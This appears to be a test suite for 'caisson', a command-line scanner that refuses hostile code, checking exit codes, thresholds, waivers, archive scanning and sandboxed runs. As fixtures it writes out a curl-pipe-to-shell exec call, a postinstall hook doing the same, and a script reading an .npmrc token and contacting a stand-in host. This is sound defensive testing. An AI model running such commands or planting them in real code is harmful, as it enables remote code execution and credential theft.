/** `caisson scan` and `caisson threats`: what they print and end with. */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { scanProgress } from '../../src/cli/scan-progress.ts';
import { fileText, paintFor } from '../../src/cli/scan-text.ts';
import { tar } from '../admission/archive/make-archives.ts';
import { entry, makePlace, type Place } from './caisson.ts';

const HOSTILE = `import { exec } from 'node:child_process';
exec('curl https://example.invalid/x | sh');
`;
const HARMLESS = 'export default (numbers) => numbers.map((n) => n * n);\n';

function put({ work }: Place, files: Readonly<Record<string, string | Buffer>>): void {
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(work, name, '..'), { recursive: true });
    writeFileSync(join(work, name), content);
  }
}

test('a hostile file: 77, with its line, a caret below it, and no colours in a pipe', () => {
  using place = makePlace();
  put(place, { 'src/bad.mjs': HOSTILE, 'src/good.mjs': HARMLESS });
  const { status, stdout, stderr } = place.caisson(['scan', 'src']);
  assert.equal(status, 77, stderr);
  assert.match(stdout, /^refused \d+(\.\d)? {2}src\/bad\.mjs {2}\(javascript\)$/m);
  assert.match(stdout, /^ +exec\('curl.*\n +\^+$/m);
  assert.match(stdout, /2 files of code .*: 1 refused \(80 and more\), 0 suspicious/);
  assert.match(stderr, /profile effect for src: no package/);
  assert.ok(!`${stdout}${stderr}`.includes('\u001b'));
});

test('harmless code: 0, and nothing listed', () => {
  using place = makePlace();
  put(place, { 'good.mjs': HARMLESS });
  const { status, stdout } = place.caisson(['scan', 'good.mjs']);
  assert.equal(status, 0);
  assert.doesNotMatch(stdout, /good\.mjs/);
});

test('the threshold decides', () => {
  using place = makePlace();
  put(place, { 'bad.mjs': HOSTILE });
  const { score } = JSON.parse(place.caisson(['scan', 'bad.mjs', '--json']).stdout);
  assert.ok(score >= 80 && score <= 100);
  assert.equal(place.caisson(['scan', 'bad.mjs', '--threshold', '80']).status, 77);
  assert.equal(place.caisson(['scan', 'bad.mjs', '--threshold', '101']).status, 64);
  put(place, { 'eval.mjs': 'export default (text) => eval(text);\n' });
  const { score: lower } = JSON.parse(place.caisson(['scan', 'eval.mjs', '--json']).stdout);
  const above = String(Math.floor(lower) + 1);
  assert.equal(place.caisson(['scan', 'eval.mjs', '--threshold', above]).status, 0);
  assert.equal(
    place.caisson(['scan', 'eval.mjs', '--threshold', String(Math.floor(lower))]).status,
    77,
  );
});

test('--declare grants; a claim in package.json does only with --trust-manifest', () => {
  using place = makePlace();
  put(place, {
    'p/index.js': "require('node:fs').readFileSync('data.txt');\n",
    'p/package.json': '{"caisson": {"declares": ["filesystem", "module-loading"]}}',
  });
  const scoreOf = (...flags: string[]): number =>
    JSON.parse(place.caisson(['scan', 'p', '--profile', 'effect', '--json', ...flags]).stdout)
      .score;
  assert.ok(scoreOf() >= 80);
  assert.ok(scoreOf('--declare', 'filesystem,module-loading') < 40);
  assert.ok(scoreOf('--trust-manifest') < 40);
  const wrong = place.caisson(['scan', 'p', '--declare', 'everything']);
  assert.equal(wrong.status, 64);
  assert.match(wrong.stderr, /is no capability/);
});

test('waivers of a policy: with a reason, for exactly this code', () => {
  using place = makePlace();
  put(place, { 'bad.mjs': HOSTILE });
  const { listed } = JSON.parse(place.caisson(['scan', 'bad.mjs', '--json']).stdout);
  const rules = new Set<string>(listed[0].findings.map(({ rule }: { rule: string }) => rule));
  const waivers = [...rules].map((rule) => ({
    rule,
    digest: listed[0].digest,
    reason: 'ours',
    expires: '2099-01-01',
  }));
  put(place, {
    'policy.json': JSON.stringify({ version: 1, admission: { waivers, model: 'off' } }),
  });
  const waived = place.caisson(['scan', 'bad.mjs', '--policy', 'policy.json']);
  assert.equal(waived.status, 0, waived.stdout + waived.stderr);
  put(place, { 'bad.mjs': `${HOSTILE} ` });
  assert.equal(place.caisson(['scan', 'bad.mjs', '--policy', 'policy.json']).status, 77);
});

test('archives: what is run on installation is looked at; foreign formats end with 65', () => {
  using place = makePlace();
  const json = '{"scripts": {"postinstall": "curl https://example.invalid/x | sh"}}';
  put(place, {
    'a.tgz': gzipSync(tar([{ name: 'package/package.json', content: json }])),
    'b.tar.bz2': 'BZh91AY&SY',
  });
  const { stdout, stderr } = place.caisson(['scan', 'a.tgz', '--list-from', '1']);
  assert.match(stdout, /a\.tgz!\/package\/package\.json {2}\(shell, run on installation\)/);
  assert.match(stderr, /profile package for a\.tgz: an archive/);
  const foreign = place.caisson(['scan', 'b.tar.bz2']);
  assert.equal(foreign.status, 65);
  assert.match(foreign.stdout, /not looked at: b\.tar\.bz2: bzip2 is not read here/);
});

test('SARIF and JSON are one document each; both at once are none', () => {
  using place = makePlace();
  put(place, { 'bad.mjs': HOSTILE });
  const { status, stdout } = place.caisson(['scan', 'bad.mjs', '--sarif']);
  assert.equal(status, 77);
  const sarif = JSON.parse(stdout);
  assert.equal(
    sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri,
    'bad.mjs',
  );
  assert.equal(place.caisson(['scan', 'bad.mjs', '--sarif', '--json']).status, 64);
});

test('names that steer a terminal are shown, not obeyed', () => {
  using place = makePlace();
  const name = 'e\u001b[31m\u202e\n\u009b.mjs';
  put(place, { [name]: HOSTILE });
  const { status, stdout, stderr } = place.caisson(['scan', '.']);
  assert.equal(status, 77);
  assert.ok(stdout.includes('e\\u001b[31m\\u202e\\u000a\\u009b.mjs'));
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
  assert.doesNotMatch(`${stdout}${stderr}`, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
});

test('what is missing: 66; nothing named: 64; a second path is looked at, too', () => {
  using place = makePlace();
  assert.equal(place.caisson(['scan', 'missing']).status, 66);
  assert.equal(place.caisson(['scan']).status, 64);
  put(place, { 'a.mjs': HARMLESS, 'b.mjs': HOSTILE });
  assert.equal(place.caisson(['scan', 'a.mjs', 'b.mjs']).status, 77);
});

test('threats: counted by day and family; not with --no-store', () => {
  using place = makePlace();
  assert.match(place.caisson(['threats']).stderr, /nothing was scanned/);
  put(place, { 'bad.mjs': HOSTILE });
  place.caisson(['scan', 'bad.mjs', '--no-store']);
  assert.match(place.caisson(['threats']).stderr, /nothing was scanned/);
  place.caisson(['scan', 'bad.mjs']);
  const { stdout } = place.caisson(['threats', '--days', '1']);
  assert.match(stdout, /^\d{4}-\d\d-\d\d +\(scanned\) +javascript +1 +\d+ +1$/m);
  assert.match(stdout, /child-process +javascript +1/);
});

test('a state directory that cannot be used costs the statistics, and is said', () => {
  using place = makePlace();
  put(place, { 'bad.mjs': HOSTILE, state: 'a file' });
  const environment = { XDG_STATE_HOME: join(place.work, 'state') };
  const { status, stderr } = place.caisson(['scan', 'bad.mjs'], { environment });
  assert.equal(status, 77);
  assert.match(stderr, /nothing is kept of this scan/);
});

test('Ctrl-C ends it, with 130', async () => {
  using place = makePlace();
  assert.equal(spawnSync('mkdir', [join(place.work, 'many')]).status, 0);
  for (let i = 0; i < 5000; i++) put(place, { [`many/${i}.mjs`]: `${HARMLESS}// ${i}\n` });
  const child = spawn(entry, ['scan', 'many', '-j', '1', '--no-store'], {
    cwd: place.work,
    env: place.environment,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  child.stderr.once('data', () => child.kill('SIGINT'));
  const code = await new Promise((resolve) => child.once('exit', resolve));
  assert.equal(code, 130);
});

test('--run: what it tries is seen, refused and thrown away', () => {
  using place = makePlace();
  const secret = join(place.work, '../home/.npmrc');
  writeFileSync(secret, 'token');
  put(place, {
    'm/run.sh': `cat ${secret}; echo x >made; echo x >/usr/caisson-was-here; getent hosts collector.example.com\n`,
  });
  const { status, stdout, stderr } = place.caisson([
    'scan',
    'm',
    '--run',
    '--json',
    '--',
    'sh',
    'run.sh',
  ]);
  assert.equal(status, 77, stderr);
  const { behaviour, decision, score, listed } = JSON.parse(stdout);
  assert.equal(decision, 'refused');
  assert.ok(score >= 90);
  const ran = listed.find((file: { ran?: unknown }) => file.ran !== undefined);
  assert.deepEqual([ran.path, ran.ran], ['m', ['sh', 'run.sh']]);
  assert.ok(ran.score >= 90);
  assert.equal(ran.findings.length, behaviour.undeclared.length);
  const rules = new Set(ran.findings.map(({ rule }: { rule: string }) => rule));
  for (const kind of ['secret', 'filesystem', 'network']) assert.ok(rules.has(`behaviour/${kind}`));
  const targets = behaviour.undeclared.map(({ target }: { target: string }) => target);
  for (const target of [secret, 'made', '/usr/caisson-was-here', 'collector.example.com']) {
    assert.ok(targets.includes(target), `${target} in ${targets}`);
  }
  assert.ok(!existsSync(join(place.work, 'm/made')) && !existsSync('/usr/caisson-was-here'));
  assert.match(place.caisson(['diff', '--list']).stdout, /^$/);
});

test('--run: what is declared does not count, what is waived neither, and what nobody saw is said', () => {
  using place = makePlace();
  put(place, { 'm/run.sh': 'echo x >made; getent hosts collector.example.com\n' });
  const scan = (...args: string[]) => place.caisson(['scan', 'm', ...args, '--', 'sh', 'run.sh']);
  const declared = ['--declare', 'filesystem,network'];
  const fine = scan('--run', ...declared);
  assert.equal(fine.status, 0, fine.stderr);
  assert.match(fine.stdout, / {2}declared {2}filesystem {2}made\n/);
  assert.match(fine.stdout, / {2}not observed {2}environment: /);
  assert.match(fine.stdout, /: 0 refused/);
  // The script is code as well, and says what it does.
  const half = scan('--run', '--declare', 'filesystem');
  assert.equal(half.status, 77);
  assert.match(half.stdout, /^refused 80 {2}m {2}\(as it ran: sh run\.sh\)\n {2}- {2}network 80 /m);
  assert.match(half.stdout, /collector\.example\.com/);
  const report = JSON.parse(scan('--run', '--json', '--declare', 'filesystem').stdout);
  assert.deepEqual([report.decision, report.score, report.families.network], ['refused', 80, 1]);
  assert.equal(scan('--run', '--declare', 'filesystem', '--threshold', '90').status, 0);
  const [run] = JSON.parse(scan('--run', '--sarif').stdout).runs;
  const ids = run.results.map(({ ruleId }: { ruleId: string }) => ruleId);
  assert.ok(ids.includes('behaviour/network') && ids.includes('behaviour/filesystem'));
  const waiver = (family: string) =>
    `    - { family: ${family}, reason: looked at, expires: 2099-01-31 }\n`;
  put(place, {
    'policy.yaml': `version: 1\nadmission:\n  waivers:\n${waiver('network')}${waiver('filesystem')}`,
  });
  const waived = scan('--run', '--policy', 'policy.yaml');
  assert.equal(waived.status, 0, waived.stdout);
});

test('a command without --run, --run without a command, and --run on an archive are refused', () => {
  using place = makePlace();
  put(place, { 'a.mjs': HARMLESS, 'a.tgz': gzipSync(tar([{ name: 'a.js' }])) });
  for (const args of [
    ['a.mjs', '--', 'true'],
    ['a.mjs', '--run'],
    ['a.tgz', '--run', '--', 'true'],
  ]) {
    assert.equal(place.caisson(['scan', ...args]).status, 64, args.join(' '));
  }
});

test('colours on a terminal alone, and not with NO_COLOR', () => {
  const file = {
    path: 'a.js',
    bytes: 1,
    score: 90,
    findings: [],
    omitted: 0,
    notes: [],
    elapsedMs: 1,
    cached: false,
  };
  assert.ok(fileText(file, 80, paintFor(true, { TERM: 'xterm' })).includes('\u001b[31m'));
  assert.ok(!fileText(file, 80, paintFor(true, { NO_COLOR: '1' })).includes('\u001b'));
  assert.ok(!fileText(file, 80, paintFor(false, {})).includes('\u001b'));
});

test('progress: a bar that is drawn over on a terminal, a line now and then elsewhere', () => {
  let text = '';
  let clock = 0;
  const bar = scanProgress(
    true,
    60,
    (part) => {
      text += part;
    },
    () => clock,
  );
  clock = 150;
  bar.at(1, undefined, 'x\u001b');
  clock = 300;
  bar.at(5, 10, 'p'.repeat(200));
  bar.at(6, 10, 'too soon');
  bar.clear();
  assert.equal(text.split('\r').length - 1, 3);
  assert.ok(text.includes('[############............] 5/10') && text.includes('x\\u001b'));
  assert.ok(text.split('\r').every((line) => line.replace('\u001b[K', '').length < 60));
  text = '';
  clock = 0;
  const lines = scanProgress(
    false,
    80,
    (part) => {
      text += part;
    },
    () => clock,
  );
  lines.at(1, 10, 'a');
  clock = 6000;
  lines.at(2, 10, 'b');
  lines.clear();
  assert.equal(text, 'caisson: 2 of 10 files\n');
});
